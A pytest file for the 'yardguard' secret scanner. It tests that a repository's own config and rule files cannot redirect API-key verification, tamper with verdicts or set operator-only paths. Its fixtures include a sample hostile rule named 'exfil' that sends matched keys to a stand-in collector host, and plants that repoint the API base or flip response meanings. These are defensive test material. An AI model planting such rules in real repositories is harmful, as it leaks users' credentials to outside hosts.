"""A hostile repository against the settings (SECURITY.md, section 4): its config and rule files may narrow
what is reported, but never choose where keys go, what a provider's answer means, or what a cached verdict
says. The operator's settings (the user-level config, ``--config``, ``--rules``) may."""
from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.conftest import Repo
from tests.core_helpers import ACME, ACME_RULE, assert_error, findings
from tests.trackyard_double import TrackyardDouble, double_servers, make_key, trackyard  # noqa: F401 - fixtures

KEY = make_key(1)


@pytest.mark.parametrize("setting", [
    {"api_base": "https://api.trackyard.com/api/external/v1"},  # even the real host: not the repository's call
    {"verify_cache": ".yardguard/verdicts.json"},
    {"verify_cache_ttl": 10 ** 9},
    {"audit_log": "../../elsewhere.jsonl"},
])
@pytest.mark.parametrize("command", [("scan", "."), ("history",), ("staged",)])
def test_repository_config_may_not_set_operator_keys(cli, repo: Repo, setting: dict, command: tuple) -> None:
    repo.write(".yardguard.toml", "".join(f"{k} = {json.dumps(v)}\n" for k, v in setting.items()))
    repo.write("app.py", f"KEY = '{KEY}'\n")
    repo.commit("config")
    assert_error(cli(*command, cwd=repo.path), ".yardguard.toml", *setting, "only the operator")


PROVIDER_PLANTS = {
    "a provider of its own": f"""
[[rule]]
id = "exfil"
description = "sends keys away"
regex = '''(trackyard_live_[A-Za-z0-9]{{24}})'''
keywords = ["trackyard_live_"]
provider = "collector"
examples = ["k = '{KEY}'"]

[provider.collector]
api_base = "https://collector.example.net/v1"
[provider.collector.verify]
method = "GET"
path = "/me"
""",
    "api_base_env": '[provider.trackyard]\napi_base_env = "DEPLOY_PREVIEW_URL"\n',
    "outcomes": '[provider.trackyard.verify.outcomes]\n200 = "invalid"\n',
}


@pytest.mark.parametrize("plant", sorted(PROVIDER_PLANTS))
def test_a_repository_rule_file_may_not_define_providers(cli, repo: Repo, trackyard: TrackyardDouble,
                                                         plant: str) -> None:
    """The rule file comes with the pull request; the environment names a host the CI job knows (here the
    double): no key may reach it, and the run is an error, not a pass."""
    trackyard.add(KEY)
    repo.write("ci/rules.toml", PROVIDER_PLANTS[plant])
    repo.write(".yardguard.toml", 'rules = ["ci/rules.toml"]\n')
    repo.write("app.py", f"KEY = '{KEY}'\n")
    repo.commit("rules")
    for command in (("scan", "--verify", "."), ("history", "--verify")):
        result = cli(*command, cwd=repo.path, stdin="",
                     env={"DEPLOY_PREVIEW_URL": trackyard.url, "TRACKYARD_API_BASE": ""})
        assert_error(result, "rules.toml", "provider", "operator")
    assert trackyard.seen() == []


def test_a_gate_reads_the_base_revision_and_still_refuses_operator_keys(cli, repo: Repo) -> None:
    repo.write(".yardguard.toml", 'verify_cache = "verdicts.json"\n')
    base = repo.commit("base")
    repo.write("app.py", f"KEY = '{KEY}'\n")
    repo.commit("key")
    assert_error(cli("history", "--range", f"{base}..main", cwd=repo.path), "verify_cache", "only the operator")


def test_the_operator_may_set_them(cli, repo: Repo, trackyard: TrackyardDouble, user_config,
                                   tmp_path: Path) -> None:
    """--config naming the repository's own file is the operator's choice; the user-level config too."""
    trackyard.add(KEY)
    repo.write(".yardguard.toml", 'verify_cache = "verdicts.json"\n')
    repo.write("app.py", f"KEY = '{KEY}'\n")
    result = cli("scan", "--verify", "--format", "json", "--config", ".yardguard.toml", ".", cwd=repo.path,
                 stdin="", env={"TRACKYARD_API_BASE": trackyard.url})
    assert [f["verification"]["status"] for f in findings(result)] == ["live"]
    assert (repo.path / "verdicts.json").is_file()
    (repo.path / ".yardguard.toml").unlink()
    user_config(verify_cache=str(tmp_path / "user-verdicts.json"), api_base=trackyard.url)
    result = cli("scan", "--verify", "--format", "json", ".", cwd=repo.path, stdin="",
                 env={"TRACKYARD_API_BASE": ""})
    assert [f["verification"]["status"] for f in findings(result)] == ["live"]
    assert (tmp_path / "user-verdicts.json").is_file()


def test_user_config_rules_add_up_and_the_repository_cannot_drop_them(cli, repo: Repo, user_config,
                                                                      tmp_path: Path) -> None:
    (tmp_path / "acme.toml").write_text(ACME_RULE)
    user_config(rules=[str(tmp_path / "acme.toml")], fail_on="any")
    repo.write(".yardguard.toml", 'rules = []\nfail_on = "never"\n')
    repo.write("app.py", f"ACME = '{ACME}'\n")
    result = cli("scan", "--format", "json", ".", cwd=repo.path)
    assert result.code == 1, result.err  # the operator's fail_on wins
    assert [f["rule_id"] for f in findings(result)] == ["acme-token"]


def test_a_broken_user_config_is_a_clear_error(cli, repo: Repo, user_config) -> None:
    path = user_config(fail_on="sometimes")
    assert_error(cli("scan", ".", cwd=repo.path), str(path), "fail_on")
